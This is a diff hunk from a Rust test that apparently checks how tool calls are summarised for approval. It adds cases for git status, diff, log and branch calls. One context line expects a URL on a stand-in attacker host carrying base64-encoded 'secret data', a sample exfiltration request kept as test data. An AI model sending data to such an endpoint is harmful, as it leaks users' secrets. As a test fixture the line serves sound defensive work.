@@ -61,6 +61,10 @@ async fn what_is_asked_is_drawn_from_the_call() {
             Some("https://evil.example/?d=c2VjcmV0IGRhdGE"),
         ),
         ("git_commit", json!({ "message": "x" }), Some("message: x")),
+        ("git_status", json!({ "repository": "r" }), Some("repository: r")),
+        ("git_diff", json!({ "from": "HEAD~1" }), Some("from: HEAD~1")),
+        ("git_log", json!({ "count": 2 }), Some("count: 2")),
+        ("git_branches", json!({ "repository": "r" }), Some("repository: r")),
         ("run_tests", json!({ "framework": "cargo" }), Some("cargo")),
     ];
     for (name, arguments, expected) in table {
